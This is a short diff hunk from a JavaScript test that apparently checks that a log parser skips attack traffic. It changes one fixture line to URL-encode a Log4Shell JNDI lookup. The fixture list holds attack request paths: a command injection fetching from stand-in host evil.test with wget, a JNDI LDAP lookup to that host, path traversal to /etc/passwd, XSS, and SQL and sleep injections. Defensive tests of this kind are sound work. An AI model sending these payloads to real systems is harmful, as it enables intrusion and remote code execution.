@@ -211,7 +211,7 @@ describe("what attackers left in a log is skipped", () => {
     "/cgi-bin/x?q=;wget%20http://evil.test/a",
     "/x?f=../../../../etc/passwd",
     "/x?f=php://filter/x",
-    "/x?u=${jndi:ldap://evil.test/a}",
+    "/x?u=%24{jndi:ldap://evil.test/a}",
     "/x?a=%3Cscript%3Ealert(1)%3C/script%3E",
     "/x?a=1;sleep(5)",
     "/x?C=%27%20OR%20%271%27=%271",
